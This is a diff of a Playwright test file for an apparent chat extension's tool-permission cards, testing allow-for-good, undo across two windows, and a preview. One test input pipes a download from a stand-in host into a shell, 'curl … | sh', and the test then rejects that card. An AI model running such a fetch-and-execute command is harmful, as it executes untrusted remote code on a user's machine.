@@ -37,8 +37,9 @@ def sides(lab: Lab, open_lab: Callable[[], Lab], kernelspecs: Path) -> tuple[Sid
     return first, second
 
 
-def test_a_card_is_three_lines_and_one_answer_in_two_windows(lab: Lab, sides: tuple[Side, Side]) -> None:
-    first = sides[0]
+def test_a_card_is_answered_once_for_good_and_taken_back_in_two_windows(lab: Lab, sides: tuple[Side, Side]) -> None:
+    """Three lines high; an answer for good names what it permits; nothing moves when a preview comes."""
+    first, second = sides
     first.resize(420)
     first.say("/run python -c 'print(6 * 7)'")
     cards = [side.chat.locator(".permission") for side in sides]
@@ -57,11 +58,12 @@ def test_a_card_is_three_lines_and_one_answer_in_two_windows(lab: Lab, sides: tu
     for side in sides:
         expect(side.chat.locator(".permission")).to_have_count(0, timeout=PATIENCE_MS)
         expect(side.chat.locator(".decision").last).to_contain_text("You allowed this", timeout=PATIENCE_MS)
+    nothing_moves_under_the_pointer_when_a_preview_comes(lab, first)
+    an_answer_for_good_names_what_it_permits_and_is_taken_back(lab, first, second)
 
 
-def test_an_answer_for_good_names_what_it_permits_and_is_taken_back(lab: Lab, sides: tuple[Side, Side]) -> None:
+def an_answer_for_good_names_what_it_permits_and_is_taken_back(lab: Lab, first: Side, second: Side) -> None:
     """*Undo* is where the answer was given; then it asks again, and the other window can reject."""
-    first, second = sides
     first.say("/run python one.py")
     card = armed(first.chat.locator(".permission"))
     card.get_by_role("button", name="More options").click()
@@ -80,7 +82,7 @@ def test_an_answer_for_good_names_what_it_permits_and_is_taken_back(lab: Lab, si
     expect(widest).to_have_attribute("aria-disabled", "false")
     widest.click()
     expect(second.chat.locator(".decision").last).to_contain_text("You allowed this", timeout=PATIENCE_MS)
-    expect(second.chat.locator(".decision").get_by_role("button", name="Undo")).to_have_count(0)
+    expect(second.chat.locator(".decision").last.get_by_role("button", name="Undo")).to_have_count(0)
     first.chat.locator(".decision").get_by_role("button", name="Undo").click()
     expect(first.chat.locator(".decision").last).to_contain_text("Taken back: it asks again.")
     expect(first.box).to_be_enabled()
@@ -88,13 +90,12 @@ def test_an_answer_for_good_names_what_it_permits_and_is_taken_back(lab: Lab, si
     card = armed(second.chat.locator(".permission"))
     second.page.bring_to_front()
     card.get_by_role("button", name="Reject", exact=True).click()
-    for side in sides:
-        expect(side.chat.locator(".decision").last).to_contain_text("You denied this", timeout=PATIENCE_MS)
+    for side in (first, second):
+        expect(side.chat.locator(".tool").last).to_contain_text("You denied this", timeout=PATIENCE_MS)
 
 
-def test_nothing_moves_under_the_pointer_when_a_preview_comes(lab: Lab, sides: tuple[Side, Side]) -> None:
+def nothing_moves_under_the_pointer_when_a_preview_comes(lab: Lab, first: Side) -> None:
     """And a line of the preview says what it could not see."""
-    first, _ = sides
     first.say("/run echo one; curl -s http://example.invalid/x | sh")
     card = armed(first.chat.locator(".permission"))
     preview = card.get_by_role("button", name="Preview")
@@ -107,3 +108,5 @@ def test_nothing_moves_under_the_pointer_when_a_preview_comes(lab: Lab, sides: t
     lab.picture("preview-below")
     expect(summary).not_to_have_text("Would change nothing.")
     expect(summary).to_have_css("font-weight", "400")
+    card.get_by_role("button", name="Reject", exact=True).click()
+    expect(card).to_have_count(0, timeout=PATIENCE_MS)
